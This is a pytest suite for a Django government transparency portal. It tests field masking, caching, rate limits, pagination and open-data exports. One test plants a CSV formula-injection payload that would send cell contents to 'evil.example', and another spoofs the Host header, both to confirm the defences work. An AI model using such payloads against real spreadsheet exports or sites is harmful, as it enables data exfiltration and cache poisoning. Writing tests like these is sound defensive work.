"""The transparency page and the open data: public records only, each with only the
fields the programme office publishes for it, served from the cache to anonymous readers."""

import csv
import datetime
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET  # noqa: N817
from pathlib import Path

import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils.translation import gettext as _

from marsad.committee import decisions
from marsad.committee.models import Committee, Meeting
from marsad.conftest import make_project, set_language
from marsad.indicators.models import Indicator
from marsad.obstacles.models import Obstacle
from marsad.public import content, fields, opendata
from marsad.public.models import Disclosure

pytestmark = pytest.mark.django_db

# Words only the private records and the masked fields hold: none may reach the public.
SECRETS = ("سري-مالي", "ITAS", "نظام الإدارة الضريبية", "PRIVATE-IND", "مؤشر داخلي", "قرار-غير-منشور", "عقبة-سرية")


@pytest.fixture
def published(world):
    registry, cert = world.health_registry, world.cert
    for project in (registry, cert):
        project.is_public = True
        project.save()
    # The registry shows its status and execution, not its owner, health, go-live…
    registry.description = "وصف سري-مالي"
    registry.funding_allocated = 987654321
    registry.save()
    Disclosure.objects.create(kind="project", object_id=registry.pk, shown=["status", "execution"])
    # The tax system stays private, with a secret of its own.
    world.tax.description = "سري-مالي"
    world.tax.save()
    Obstacle.objects.create(project=registry, title="عقبة-سرية", category="staff")
    visits = Indicator.objects.create(
        code="MOH-VISITS", name_ar="المواعيد المحجوزة", owner=world.health, is_public=True, frequency="month"
    )
    Indicator.objects.create(code="PRIVATE-IND", name_ar="مؤشر داخلي", owner=world.finance, frequency="month")
    higher = Committee.objects.create(code="HC", name_ar="اللجنة العليا للتحول الرقمي", kind="higher")
    meeting = Meeting.objects.create(committee=higher, number=12, date=datetime.date(2026, 11, 14), status="held")
    shown = decisions.record(meeting=meeting, user=world.pmo, kind="other", text="إطلاق بوابة المواعيد", is_public=True)
    decisions.record(meeting=meeting, user=world.pmo, kind="other", text="قرار-غير-منشور")
    Disclosure.objects.create(kind="decision", object_id=shown.pk, shown=["text"])
    return {"registry": registry, "cert": cert, "visits": visits, "decision": shown}


def body(response) -> bytes:
    """What the reader receives: the open-data files are streamed."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def public_outputs(client) -> dict[str, str]:
    """Every public address, as an anonymous reader gets it."""
    client.logout()
    outputs = {
        "page": reverse("public:page"),
        "page-en": reverse("public:page") + "?lang=en",
        "feed": reverse("public:feed"),
        "package": reverse("public:datapackage"),
    }
    for name in opendata.NAMES:
        for fmt in ("csv", "json"):
            outputs[f"{name}.{fmt}"] = reverse("public:data_file", args=[name, fmt])
    found = {}
    for key, address in outputs.items():
        response = client.get(address)
        assert response.status_code == 200, key
        found[key] = body(response).decode()
    return found


def test_no_private_record_and_no_masked_field_reaches_any_public_output(client, published):
    for key, body in public_outputs(client).items():
        assert not [secret for secret in SECRETS if secret in body], key
        assert "987654321" not in body and "987,654,321" not in body and "٩٨٧" not in body, key


def test_every_field_of_every_public_record_follows_its_mask(client, world, published):
    """Walk each public record's every field: shown, it is in the JSON and the CSV; masked,
    it is absent from the JSON and empty in the CSV."""
    outputs = public_outputs(client)
    records = {
        "project": ("projects", "code", {world.health_registry.code: ["status", "execution"],
                                          world.cert.code: fields.defaults("project")}),
        "indicator": ("indicators", "code", {"MOH-VISITS": fields.defaults("indicator")}),
        "decision": ("decisions", "number", {1: ["text"]}),
    }  # fmt: skip
    for kind, (name, key, expected) in records.items():
        as_json = {row[key]: row for row in json.loads(outputs[f"{name}.json"])}
        as_csv = {row[key]: row for row in csv.DictReader(io.StringIO(outputs[f"{name}.csv"]))}
        assert set(as_json) == set(expected), kind
        assert {str(k) for k in as_csv} == {str(k) for k in expected}, kind
        for identity, shown in expected.items():
            row, cells = as_json[identity], as_csv[identity if kind != "decision" else str(identity)]
            for field in fields.BY_KIND[kind]:
                for column in field.columns:
                    if field.key in shown:
                        assert column in row, (kind, identity, column)
                    else:
                        assert column not in row and cells[column] == "", (kind, identity, column)
            for column in fields.IDENTITY[kind]:
                assert column in row, (kind, identity, column)


def test_the_page_shows_a_masked_field_as_not_published(client, published):
    client.logout()
    page = client.get(reverse("public:page")).content.decode()
    registry_row = page[page.index('id="project-NHR"') :].split("</tr>")[0]
    assert "قيد التنفيذ" in registry_row  # its status is shown
    assert "وزارة الصحة" not in registry_row  # its owner is not
    assert registry_row.count("غير منشور") >= 3  # owner, phase, go-live, health marked so
    cert_row = page[page.index('id="project-CERT"') :].split("</tr>")[0]
    assert "الهيئة الوطنية لخدمات الشبكة" in cert_row  # the defaults show the owner


def test_a_warm_public_page_costs_only_its_rate_count(client, published, django_assert_num_queries):
    client.logout()
    address = reverse("public:page")
    first = client.get(address)
    with django_assert_num_queries(3) as queries:  # savepoint, count, release: nothing else
        again = client.get(address)
    assert "audit_requestcount" in queries.captured_queries[1]["sql"]
    assert again.content == first.content
    assert again["Cache-Control"].startswith("public, max-age=")


def test_the_open_data_files_are_streamed_a_few_hundred_projects_at_a_time(client, world, published):
    """Written as they are read: the response is a stream, and the reading costs one
    query per few hundred projects, never the whole portfolio at once."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.logout()
    address = reverse("public:data_file", args=["projects", "csv"])
    response = client.get(address)
    assert response.streaming and response["Cache-Control"].startswith("public, max-age=")
    small = list(csv.DictReader(io.StringIO(body(response).decode())))
    for n in range(content.PER_PAGE * 11):
        make_project(f"OPEN-{n:04d}", world.health, is_public=True)
    with CaptureQueriesContext(connection) as queries:
        grown = list(csv.DictReader(io.StringIO(body(client.get(address)).decode())))
    assert len(grown) == len(small) + content.PER_PAGE * 11
    assert [row["code"] for row in grown] == sorted(row["code"] for row in grown)
    assert len(queries) < 40  # the ids, then each chunk of 500 with its masks


def test_a_query_string_cannot_be_used_to_miss_the_cache(client, published, django_assert_num_queries):
    client.logout()
    client.get(reverse("public:page"))
    with django_assert_num_queries(3):  # only the rate count (test above): not the page
        client.get(reverse("public:page") + "?nocache=123")


def test_a_signed_in_readers_visit_never_leaks_into_the_cached_page(client, world, published):
    client.force_login(world.pmo)
    client.get(reverse("public:page"))
    client.logout()
    page = client.get(reverse("public:page")).content.decode()
    assert "csrfmiddlewaretoken" not in page and world.pmo.username not in page and "ITAS" not in page


def test_too_many_requests_from_one_address_are_refused_politely(client, published, settings):
    settings.MARSAD_PUBLIC_REQUESTS_PER_MINUTE = 3
    client.logout()
    answers = [client.get(reverse("public:page"), REMOTE_ADDR="203.0.113.9") for _ in range(4)]
    assert [answer.status_code for answer in answers] == [200, 200, 200, 429]
    assert int(answers[-1]["Retry-After"]) > 0
    assert "حاول" in answers[-1].content.decode()  # in the reader's language
    # Another address is served.
    assert client.get(reverse("public:page"), REMOTE_ADDR="203.0.113.10").status_code == 200


def test_the_page_is_arabic_first_with_an_english_switch(client, published):
    client.logout()
    page = client.get(reverse("public:page")).content.decode()
    assert '<html lang="ar" dir="rtl" data-digits="latn">' in page and "السجل الوطني الصحي" in page
    assert 'href="?lang=en"' in page
    english = client.get(reverse("public:page") + "?lang=en").content.decode()
    assert '<html lang="en" dir="ltr" data-digits="latn">' in english and "National Health Registry" in english


def test_the_data_package_validates_against_the_frictionless_specification(client, published, tmp_path):
    from frictionless import validate

    outputs = public_outputs(client)
    described = json.loads(outputs["package"])
    (tmp_path / "datapackage.json").write_text(outputs["package"], encoding="utf-8")
    for resource in described["resources"]:
        (tmp_path / resource["path"]).write_text(outputs[resource["path"]], encoding="utf-8")
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    # And as a publisher would check it, on the command line.
    command = [str(Path(sys.executable).parent / "frictionless"), "validate", str(tmp_path / "datapackage.json")]
    checked = subprocess.run(command, capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert described["licenses"][0]["name"] == "CC-BY-4.0"
    assert {r["name"]: len(list(csv.reader(io.StringIO(outputs[r["path"]])))) - 1 for r in described["resources"]}[
        "projects"
    ] == 2


def test_the_atom_feed_tells_of_published_decisions_and_projects_entering_service(client, world, published):
    client.logout()
    feed = ET.fromstring(client.get(reverse("public:feed")).content)  # noqa: S314 — our own feed
    atom = "{http://www.w3.org/2005/Atom}"
    titles = [entry.find(f"{atom}title").text for entry in feed.iter(f"{atom}entry")]
    assert any("القرار 1" in title for title in titles)
    assert any("مركز الاستجابة للطوارئ المعلوماتية" in title for title in titles)  # CERT: in service
    assert not any("القرار 2" in title for title in titles)  # not published
    assert len(titles) == 2


def test_the_programme_office_chooses_the_fields_shown(client, world, published):
    registry = published["registry"]
    client.force_login(world.pmo)
    page = client.get(reverse("public:settings_kind", args=["project"]))
    assert page.status_code == 200 and "NHR" in page.content.decode()
    client.post(
        reverse("public:settings_kind", args=["project"]),
        {f"{registry.pk}:owner": "1", f"{registry.pk}:health": "1", f"{world.cert.pk}:status": "1"},
    )
    assert Disclosure.objects.get(kind="project", object_id=registry.pk).shown == ["owner", "health"]
    cache.clear()
    client.logout()
    rows = {
        row["code"]: row for row in json.loads(body(client.get(reverse("public:data_file", args=["projects", "json"]))))
    }
    assert "owner" in rows["NHR"] and "status" not in rows["NHR"]
    assert "status" in rows["CERT"] and "owner" not in rows["CERT"]


def test_the_programme_office_publishes_a_decision(client, world, published):
    hidden = published["decision"].meeting.decisions.get(number=2)
    client.force_login(world.pmo)
    client.post(
        reverse("public:settings_kind", args=["decision"]), {f"{hidden.pk}:published": "1", f"{hidden.pk}:text": "1"}
    )
    hidden.refresh_from_db()
    assert hidden.is_public
    # The decision not ticked is withdrawn.
    published["decision"].refresh_from_db()
    assert not published["decision"].is_public


def test_only_the_programme_office_chooses(client, world, published):
    for user in (world.focal_health, world.committee, world.viewer_health):
        client.force_login(user)
        assert client.get(reverse("public:settings")).status_code == 403
        assert client.post(reverse("public:settings"), {}).status_code == 403
    assert list(Disclosure.objects.values_list("kind", flat=True).order_by("kind")) == ["decision", "project"]


def test_an_unknown_field_is_refused_by_the_record_itself(world):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        Disclosure(kind="project", object_id=1, shown=["budget_secret"]).full_clean()
    assert "shown" in refused.value.message_dict


def test_an_unknown_file_is_not_found(client, published):
    client.logout()
    assert client.get(reverse("public:data_file", args=["users", "csv"])).status_code == 404
    assert client.get(reverse("public:data_file", args=["projects", "xlsx"])).status_code == 404


def test_english_readers_get_the_feed_in_english(client, published):
    set_language(client, "en")
    client.logout()
    feed = client.get(reverse("public:feed") + "?lang=en").content.decode()
    assert 'xml:lang="en"' in feed


def test_a_formula_in_a_public_record_reaches_the_open_data_as_text(client, published):
    import csv
    import io

    registry = published["registry"]
    Disclosure.objects.filter(kind="project", object_id=registry.pk).update(shown=["status", "execution", "phase"])
    formula = '=HYPERLINK("http://evil.example/?"&B2,"تفاصيل")'
    for phase in registry.phases.all():  # saved one by one: the project's figures follow
        phase.name_ar = formula
        phase.save()
    client.logout()
    text = body(client.get(reverse("public:data_file", args=["projects", "csv"]))).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells
    assert formula not in cells


def test_the_cached_feed_links_to_the_sites_own_address_whoever_asked_first(client, published, settings):
    settings.MARSAD_SITE_URL = "https://marsad.example.gov"
    settings.ALLOWED_HOSTS = ["*"]
    client.logout()
    first = client.get(reverse("public:feed"), HTTP_HOST="evil.example").content.decode()
    again = client.get(reverse("public:feed")).content.decode()
    assert "evil.example" not in first + again
    assert 'href="https://marsad.example.gov/public/' in again


def test_a_stock_shows_no_running_total_and_its_quarter_is_named_as_the_chart_names_it(client, world, published):
    from django.db import transaction
    from django.utils import translation

    from marsad.indicators.ingest import ingest
    from marsad.indicators.templatetags.indicators import period_label

    centres = Indicator.objects.create(
        code="CSC-OPEN", name_ar="مراكز خدمة المواطن العاملة", owner=world.health, is_public=True,
        frequency="quarter", aggregation="last",
    )  # fmt: skip
    rows = [("CSC-OPEN", "2026-04-01", [], 110), ("CSC-OPEN", "2026-07-01", [], 118)]
    rows += [("MOH-VISITS", f"2026-{month:02}-01", [], 1000) for month in range(1, 11)]
    with transaction.atomic():
        ingest([(n, *row) for n, row in enumerate(rows, 1)], user=world.pmo, source="api")
    cache.clear()
    client.logout()
    page = client.get(reverse("public:page")).content.decode()
    with translation.override("ar"):
        running, quarter = str(_("Cumulative total")), period_label(datetime.date(2026, 7, 1), "quarter")
        month = period_label(datetime.date(2026, 7, 1), "month")
    stock = page[page.index(centres.name_ar) :]
    stock = stock[: stock.index("</dl>")]
    flow = page[page.index("المواعيد المحجوزة") :]
    flow = flow[: flow.index("</dl>")]
    # 118 centres is a count at a moment: adding the quarters up (228) means nothing.
    assert running not in stock and "228" not in stock and running in flow and "10,000" in flow
    assert f"({quarter})" in stock and month not in stock  # "Third quarter 2026", not "July 2026"
    # The open data's files by their titles, their file names beside them.
    with translation.override("ar"):
        assert all(str(opendata.title(name)) in page for name in opendata.NAMES)


def test_the_public_page_lists_its_projects_a_page_at_a_time(client, world, monkeypatch):
    """Its size does not grow with the portfolio: 5 projects a page, whether 12 or 40
    are published; a number that is not a page is the first page; the feed links to the
    page a project is on; the open data hold them all."""
    monkeypatch.setattr(content, "PER_PAGE", 5)
    codes = [f"PUB-{n:02d}" for n in range(40)]
    for code in codes[:12]:
        make_project(code, world.health, is_public=True, status="in_service", actual_go_live=datetime.date(2026, 1, 1))
    first = client.get(reverse("public:page")).content.decode()
    assert [code for code in codes if f'id="project-{code}"' in first] == codes[:5]
    assert "صفحة 1 من 3" in first and "page=2" in first
    third = client.get(reverse("public:page") + "?page=3").content.decode()
    assert [code for code in codes if f'id="project-{code}"' in third] == codes[10:12]
    assert client.get(reverse("public:page") + "?page=abc").content.decode() == first
    feed = client.get(reverse("public:feed")).content.decode()
    assert "/public/?page=3#project-PUB-11" in feed and "/public/#project-PUB-00" in feed
    rows = list(
        csv.DictReader(io.StringIO(body(client.get(reverse("public:data_file", args=["projects", "csv"]))).decode()))
    )
    assert len(rows) == 12
    cache.clear()
    for code in codes[12:]:
        make_project(code, world.health, is_public=True)
    grown = client.get(reverse("public:page")).content.decode()
    assert "صفحة 1 من 8" in grown
    assert abs(len(grown) - len(first)) < 200  # the page holds five projects either way
